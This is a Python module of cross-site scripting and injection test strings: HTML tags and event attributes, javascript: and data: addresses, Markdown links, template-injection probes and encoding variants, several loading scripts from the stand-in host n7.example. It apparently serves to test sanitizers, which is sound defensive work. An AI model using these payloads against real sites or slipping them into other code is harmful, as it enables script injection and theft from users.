"""What people have tried to make a page run, as texts: markup, attributes, addresses, Markdown, templates."""

CALL_OF_SCRIPT = "alert('n7')"

MARKUP_PAYLOADS = (
    "<script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "</option></select><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<script src=//n7.example/x.js></script>",
    "<script type=module>import '//n7.example/x.js'</script>",
    "<img src=x onerror={run}>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text y=9>n7</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>n7</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<details open ontoggle={run}>n7</details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<body onload={run}>",
    "<marquee onstart={run}>n7</marquee>",
    "<form action=javascript:{run}><button>n7</button></form>",
    "<button formaction=javascript:{run}>n7</button>",
    "<a href=javascript:{run}>n7</a>",
    "<a href='data:text/html,<script>{run}</script>'>n7</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//n7.example/>",
    "<link rel=stylesheet href=//n7.example/x.css>",
    "<style>*{{background:url(//n7.example/x)}}</style>",
    '" onmouseover={run} x="',
    "' autofocus onfocus={run} x='",
    "` onerror={run} `",
    "\" style=\"background:url('javascript:{run}')",
    '" hx-get="//n7.example/" hx-trigger="load',
    '" hx-on::load="{run}',
)
ADDRESS_PAYLOADS = (
    "javascript:{run}",
    " JaVa\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "javascript://n7.example/%0A{run}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//n7.example/",
    "\\\\n7.example\\x",
    "http://a@n7.example/",
    "http://n7.example\\@good.example.org/",
    "file:///etc/passwd",
    "blob:https://n7.example/1",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "intent://n7.example#Intent;scheme=javascript;end",
    "tel:123\nX: y",
    "https://n7.example/" + "a" * 10_000,
)
MARKDOWN_PAYLOADS = (
    "[n7](javascript:{run})",
    "![n7](javascript:{run})",
    '![n7](x "onerror={run}")',
    "<javascript:{run}>",
    "[n7]: javascript:{run}",
    "[n7](data:text/html,<script>{run}</script>)",
    "`<script>{run}</script>`",
)
TEMPLATE_PAYLOADS = (
    "{{{{ 7*7 }}}}",
    "{{% debug %}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{{{constructor.constructor('{run}')()}}}}",
)
TEXT_PAYLOADS = (
    str,
    str.upper,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace("script", "scr\0ipt").replace("on", "o\0n"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
)  # fmt: skip


def address_payloads() -> list[str]:
    return [text.format(run=CALL_OF_SCRIPT) for text in ADDRESS_PAYLOADS]


def all_payloads() -> list[str]:
    plain = [
        text.format(run=CALL_OF_SCRIPT)
        for text in (*MARKUP_PAYLOADS, *ADDRESS_PAYLOADS, *MARKDOWN_PAYLOADS, *TEMPLATE_PAYLOADS)
    ]
    return list(dict.fromkeys(write(text) for write in TEXT_PAYLOADS for text in plain))
